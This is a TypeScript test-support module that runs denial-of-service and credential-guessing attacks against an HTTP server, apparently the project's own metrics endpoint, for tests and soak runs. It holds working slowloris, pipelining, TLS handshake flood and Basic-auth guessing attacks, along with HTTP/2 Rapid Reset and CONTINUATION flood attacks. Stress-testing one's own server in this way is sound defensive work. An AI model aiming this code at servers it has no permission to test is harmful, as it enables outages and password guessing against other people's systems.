// Attacks on an HTTP server, for the tests and for the soak. Each takes the server's URL, goes on until it is stopped, and expects
// nothing of the server: what comes of it is for the caller to check.
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';

/** An attack in progress. */
export interface Attack {
  /** Connections that the server has ended or refused so far. */
  readonly endedByServer: number;
  /** Bytes that the server has sent and that were read. */
  readonly bytesRead: number;
  stop(): void;
}

export interface AttackOptions {
  /** Connections at a time. One that the server ends is opened again. */
  readonly connections?: number;
  /** The address to come from, such as 127.0.0.7. */
  readonly localAddress?: string;
  /** Of the metrics. */
  readonly path?: string;
}

interface Behaviour {
  /** On a new connection (after the TLS handshake, unless `isBareTcp`); the function returned ends it. */
  readonly open: (socket: Socket) => (() => void) | undefined;
  readonly reads?: boolean;
  /** TCP alone, also where the URL is https. */
  readonly isBareTcp?: boolean;
  readonly alpn?: string;
  /** Opened again at once; else after a pause. */
  readonly isFlood?: boolean;
  readonly defaultConnections?: number;
}

const REOPEN_MS = 100;

/** Keeps a number of connections open that all behave alike. */
class Siege implements Attack {
  endedByServer = 0;
  bytesRead = 0;
  readonly #url: URL;
  readonly #options: AttackOptions;
  readonly #behaviour: Behaviour;
  readonly #sockets = new Set<Socket>();
  readonly #timers = new Set<NodeJS.Timeout>();
  #isStopped = false;

  constructor(url: string, options: AttackOptions, behaviour: Behaviour) {
    this.#url = new URL(url);
    this.#options = options;
    this.#behaviour = behaviour;
    const { connections = behaviour.defaultConnections ?? 20 } = options;
    for (let index = 0; index < connections; index++) this.#open();
  }

  stop(): void {
    this.#isStopped = true;
    for (const timer of this.#timers) clearTimeout(timer);
    for (const socket of this.#sockets) socket.destroy();
  }

  #open(): void {
    if (this.#isStopped) return;
    const { open, reads = false, isBareTcp = false, alpn } = this.#behaviour;
    const where = { host: this.#url.hostname.replace(/[[\]]/g, ''), port: Number(this.#url.port) };
    const from = this.#options.localAddress === undefined ? {} : { localAddress: this.#options.localAddress };
    const isTls = this.#url.protocol === 'https:' && !isBareTcp;
    const socket: Socket = isTls
      ? connectTls({ ...where, ...from, rejectUnauthorized: false, ...(alpn && { ALPNProtocols: [alpn] }) })
      : connectTcp({ ...where, ...from });
    this.#sockets.add(socket);
    let end: (() => void) | undefined;
    socket.once(isTls ? 'secureConnect' : 'connect', () => {
      end = open(socket);
    });
    if (reads) socket.on('data', (data: Buffer) => (this.bytesRead += data.length));
    socket.on('error', () => {});
    socket.on('end', () => socket.destroy());
    socket.once('close', () => {
      end?.();
      this.#sockets.delete(socket);
      if (this.#isStopped) return;
      this.endedByServer++;
      const timer = setTimeout(
        () => {
          this.#timers.delete(timer);
          this.#open();
        },
        this.#behaviour.isFlood ? 0 : REOPEN_MS,
      );
      this.#timers.add(timer);
    });
  }
}

/** Calls back again and again until the function returned is called. */
function repeat(everyMs: number, callback: () => void): () => void {
  const timer = setInterval(callback, everyMs);
  return () => clearInterval(timer);
}

/** Writes the same again and again, as fast as the other side takes it. */
function writeForever(socket: Socket, bytes: Uint8Array): undefined {
  const more = () => {
    while (!socket.destroyed && socket.write(bytes));
  };
  socket.on('drain', more);
  more();
  return undefined;
}

const requestOf = (path: string, more = '') => `GET ${path} HTTP/1.1\r\nHost: x\r\n${more}\r\n`;

/** Sends 1,500 requests for the metrics at once, on each connection, and never reads. */
export function pipelineWithoutReading(url: string, options: AttackOptions = {}): Attack {
  const { path = '/metrics' } = options;
  return new Siege(url, options, {
    open: (socket) => void socket.pause().write(requestOf(path).repeat(1_500)),
  });
}

/** Sends requests without an end, and reads all that comes. */
export function pipelineForever(url: string, options: AttackOptions = {}): Attack {
  const { path = '/metrics' } = options;
  const requests = Buffer.from(requestOf(path).repeat(200));
  return new Siege(url, options, { open: (socket) => writeForever(socket, requests), reads: true });
}

/** Asks for the metrics and reads a little of them now and then. */
export function readSlowly(url: string, options: AttackOptions = {}): Attack {
  const { path = '/metrics' } = options;
  return new Siege(url, options, {
    open(socket) {
      socket.write(requestOf(path).repeat(20));
      socket.pause();
      return repeat(200, () => socket.read(64));
    },
  });
}

/** Sends headers, a line every now and then, that never end. */
export function sendHeadersSlowly(url: string, options: AttackOptions = {}): Attack {
  return new Siege(url, options, {
    open(socket) {
      socket.write('GET / HTTP/1.1\r\nHost: x\r\n');
      return repeat(300, () => socket.write('X-a: b\r\n'));
    },
    defaultConnections: 200,
  });
}

/** Announces a body of 1 GB, and sends it a byte at a time. */
export function sendBodiesSlowly(url: string, options: AttackOptions = {}): Attack {
  const { path = '/metrics' } = options;
  return new Siege(url, options, {
    open(socket) {
      socket.write(`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n`);
      return repeat(300, () => socket.write('x'));
    },
    reads: true,
  });
}

/** Sends bodies as fast as it can, with a length and in chunks. */
export function sendBodies(url: string, options: AttackOptions = {}): Attack {
  const { path = '/metrics' } = options;
  const chunk = Buffer.from(`10000\r\n${'x'.repeat(0x10000)}\r\n`);
  return new Siege(url, options, {
    open(socket) {
      socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n`);
      return writeForever(socket, chunk);
    },
    reads: true,
  });
}

/** Sends headers without an end, as fast as it can. */
export function sendHugeHeaders(url: string, options: AttackOptions = {}): Attack {
  const line = Buffer.from(`X-a: ${'y'.repeat(60_000)}\r\n`);
  return new Siege(url, options, {
    open(socket) {
      socket.write('GET / HTTP/1.1\r\nHost: x\r\n');
      return writeForever(socket, line);
    },
    reads: true,
  });
}

/** Opens connections and leaves them, and opens another for each that the server ends. */
export function leaveIdle(url: string, options: AttackOptions = {}): Attack {
  return new Siege(url, options, { open: () => undefined, isBareTcp: true, defaultConnections: 500, isFlood: true });
}

/** Begins TLS handshakes and leaves them half done. */
export function leaveHandshakes(url: string, options: AttackOptions = {}): Attack {
  return new Siege(url, options, {
    // The head of a ClientHello of 512 bytes, which never comes.
    open: (socket) => void socket.write(Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])),
    isBareTcp: true,
    defaultConnections: 200,
  });
}

/** Makes TLS handshakes as fast as it can, and closes. */
export function floodHandshakes(url: string, options: AttackOptions = {}): Attack {
  return new Siege(url, options, { open: (socket) => void socket.destroy(), isFlood: true, defaultConnections: 10 });
}

/** Guesses passwords, a new one each time, as fast as they are refused. */
export function guessPasswords(url: string, options: AttackOptions = {}): Attack {
  const { path = '/metrics' } = options;
  let count = 0;
  return new Siege(url, options, {
    open(socket) {
      const guess = () => {
        const credentials = Buffer.from(`prometheus:guess-${count++}`).toString('base64');
        socket.write(requestOf(path, `Authorization: Basic ${credentials}\r\n`));
      };
      socket.on('data', guess);
      guess();
      return undefined;
    },
    reads: true,
  });
}

/** Guesses passwords and goes away before the response. */
export function guessAndLeave(url: string, options: AttackOptions = {}): Attack {
  const { path = '/metrics' } = options;
  let count = 0;
  return new Siege(url, options, {
    open(socket) {
      const credentials = Buffer.from(`prometheus:leave-${count++}`).toString('base64');
      socket.write(requestOf(path, `Authorization: Basic ${credentials}\r\n`));
      setTimeout(() => socket.destroy(), 20);
      return undefined;
    },
    reads: true,
  });
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const FRAME = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 };
const END_STREAM = 1;
const END_HEADERS = 4;

/** A frame of HTTP/2 (RFC 9113, 4.1). */
function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** The headers of a GET, as HPACK without tables: :method, :scheme, :path, :authority. */
function headersOf(path: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x04, path.length]), Buffer.from(path), Buffer.from([0x01, 1, 0x78])]);
}

function overHttp2(
  url: string,
  options: AttackOptions,
  open: (socket: Socket) => (() => void) | undefined,
  reads = true,
): Attack {
  return new Siege(url, options, {
    open(socket) {
      socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0)]));
      return open(socket);
    },
    reads,
    alpn: 'h2',
    defaultConnections: 10,
  });
}

/** HTTP/2: opens streams and resets them at once (CVE-2023-44487). */
export function resetStreams(url: string, options: AttackOptions = {}): Attack {
  const { path = '/metrics' } = options;
  const cancel = Buffer.from([0, 0, 0, 8]);
  const parts: Buffer[] = [];
  // Made once: this process is to be quicker than the server.
  for (let stream = 1; stream < 20_000; stream += 2) {
    parts.push(frame(FRAME.headers, END_STREAM | END_HEADERS, stream, headersOf(path)));
    parts.push(frame(FRAME.reset, 0, stream, cancel));
  }
  const all = Buffer.concat(parts);
  return overHttp2(url, options, (socket) => {
    const state = { at: 0 };
    const more = () => {
      while (state.at < all.length && !socket.destroyed) {
        const chunk = all.subarray(state.at, state.at + 16_384);
        state.at += chunk.length;
        if (!socket.write(chunk)) return;
      }
    };
    socket.on('drain', more);
    more();
    return undefined;
  });
}

/** HTTP/2: asks for the metrics on many streams and never opens the window for them, nor reads. */
export function stallStreams(url: string, options: AttackOptions = {}): Attack {
  const { path = '/metrics' } = options;
  return overHttp2(url, options, (socket) => {
    const parts: Buffer[] = [];
    for (let stream = 1; stream < 200; stream += 2) {
      parts.push(frame(FRAME.headers, END_STREAM | END_HEADERS, stream, headersOf(path)));
    }
    socket.write(Buffer.concat(parts));
    return undefined;
  });
}

/** HTTP/2: PING without an end, and the replies are not read. */
export function floodPings(url: string, options: AttackOptions = {}): Attack {
  const pings = Buffer.concat(Array.from({ length: 500 }, () => frame(FRAME.ping, 0, 0, new Uint8Array(8))));
  return overHttp2(url, options, (socket) => writeForever(socket.pause(), pings), false);
}

/** HTTP/2: SETTINGS without an end, and the replies are not read. */
export function floodSettings(url: string, options: AttackOptions = {}): Attack {
  const settings = Buffer.concat(Array.from({ length: 500 }, () => frame(FRAME.settings, 0, 0)));
  return overHttp2(url, options, (socket) => writeForever(socket.pause(), settings), false);
}

/** HTTP/2: headers that go on and on in CONTINUATION frames (CVE-2024-27316). */
export function continueForever(url: string, options: AttackOptions = {}): Attack {
  // A literal header without indexing: the name `a` and 100 bytes.
  const header = Buffer.concat([Buffer.from([0, 1, 0x61, 100]), Buffer.alloc(100, 0x62)]);
  const more = frame(FRAME.continuation, 0, 1, Buffer.concat(Array<Buffer>(100).fill(header)));
  return overHttp2(url, options, (socket) => {
    socket.write(frame(FRAME.headers, 0, 1, headersOf('/')));
    return writeForever(socket, more);
  });
}

/** HTTP/2: bodies that nobody asked for, beyond every window. */
export function floodData(url: string, options: AttackOptions = {}): Attack {
  const { path = '/metrics' } = options;
  const data = frame(FRAME.data, 0, 1, Buffer.alloc(16_384));
  return overHttp2(url, options, (socket) => {
    socket.write(frame(FRAME.headers, END_HEADERS, 1, headersOf(path)));
    return writeForever(socket, data);
  });
}
